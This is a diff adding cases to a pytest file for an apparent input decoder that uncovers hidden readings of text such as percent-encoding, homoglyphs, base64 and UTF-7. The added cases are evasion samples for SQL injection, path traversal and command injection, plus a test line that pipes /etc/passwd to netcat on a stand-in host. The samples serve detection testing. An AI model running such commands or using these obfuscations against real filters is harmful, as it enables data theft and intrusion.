@@ -57,6 +57,26 @@ def readings(value: str) -> list[str]:
         ("a\ufe0fb\U000e0101c", "abc"),
         ("no\u00adw", "now"),
         ("%EF%BC%9Cb", "<b"),
+        ("%2525EF%2525BC%25259Cb", "<b"),
+        ("a+b%21", "a b!"),
+        ("1'%A0or%a01=1", "1' or 1=1"),
+        ("x\U000e0069\U000e0064", "xid"),
+        ("раураl", "paypal"),
+        ("ехес", "exec"),
+        ("ЅЕLЕСТ", "SELECT"),
+        ("ᴜɴɪᴏɴ", "union"),
+        ("..∕etc∕hosts", "../etc/hosts"),
+        ("i̲g̲n̲o̲r̲e", "ignore"),
+        ("ïgnörë", "ignore"),
+        ("0x2e0x2e0x2fa", "../a"),
+        ("+ADw-b+AD4-", "<b>"),
+        ("3c7363726970743e2121", "<script>!!"),
+        ("select 0x61646d696e", "admin"),
+        ('["a;b", {"c-d": 1}]', "a;b"),
+        ('["a;b", {"c-d": 1}]', "c-d"),
+        (r'{"a": "[\"x-y\"]"}', "x-y"),
+        ('"; ls"', "; ls"),
+        ("id: O2xzIC1hbA==", ";ls -al"),
     ],
 )
 def test_each_spelling_of_a_character_is_read(sent: str, read: str) -> None:
@@ -66,7 +86,34 @@ def test_each_spelling_of_a_character_is_read(sent: str, read: str) -> None:
 
 @pytest.mark.parametrize(
     "sent",
-    ["100 % sure", "50%", "%zz", "AT&T", "a & b", r"C:\users\ann", r"\d+\s", "naïve", "日本語", "😀", "x = y", ""],
+    [
+        "100 % sure",
+        "50%",
+        "%zz",
+        "AT&T",
+        "a & b",
+        r"C:\users\ann",
+        r"\d+\s",
+        "naïve",
+        "日本語",
+        "😀",
+        "x = y",
+        "",
+        "Привет, мир",
+        "рост и сок у реки",
+        "Ελληνικά",
+        "élève à l’école – « oui »",
+        "Tiếng Việt",
+        "the αβ test",
+        "4111111111111111",
+        "0xdeadbeef",
+        "[1, 2]",
+        "[not json]",
+        '{"a": 1}',
+        "database",
+        "1+1",
+        "Sat+Sun",
+    ],
 )
 def test_text_that_no_decoder_changes_has_no_other_reading(sent: str) -> None:
     """Nothing is scanned twice without need."""
@@ -163,6 +210,35 @@ def test_each_form_names_the_text_it_was_made_from() -> None:
     """Texts without another reading leave no gap in the numbers."""
     forms = derived("plain", "%41bc", "plain", "ｄ").forms
     assert [(form.leaf, form.text) for form in forms] == [(1, "Abc"), (3, "d")]
+
+
+def test_base64_that_is_wrapped_over_lines_is_read_whole() -> None:
+    """Mail wraps it, and a payload across the break must not fall apart."""
+    command = "please run this: cat /etc/passwd | nc collect.example 99"
+    encoded = base64.b64encode(command.encode()).decode()
+    assert command in readings("\n".join(encoded[place : place + 22] for place in range(0, len(encoded), 22)))
+
+
+def test_json_that_nests_too_deep_is_reported() -> None:
+    """What its parser gives up on, a server may still read."""
+    assert derived("[" * 60_000 + "]" * 60_000).too_deep == (0,)
+    assert derived("[" * 50 + '"a-b"' + "]" * 50).too_deep == ()
+
+
+def test_all_texts_that_could_not_be_read_are_reported() -> None:
+    """An exclusion for one place must not hide that others were left unread."""
+    assert derived("&#60;" * 40_000, "%41").exhausted == (0, 1)
+
+
+def test_honest_prose_of_another_script_stays_within_the_budget() -> None:
+    """One word with a foreign letter in it makes all of the text be read again, and no more than that."""
+    result = derived("Привет мир, это обычный тeкст о погоде. " * 3_000)
+    assert (len(result.forms), result.exhausted) == (1, ())
+
+
+def test_escapes_that_stand_for_nothing_are_no_further_encoding() -> None:
+    """Halves of surrogate pairs and NUL stay as they are, in source code that is full of other escapes."""
+    assert derived(r"\ud83d \u0000 \x41 \u2603").too_deep == ()
 
 
 @pytest.mark.parametrize("sent", ["%41", "&lt;", "&#60;", r"\u0041", r"\x41", r"\/"])
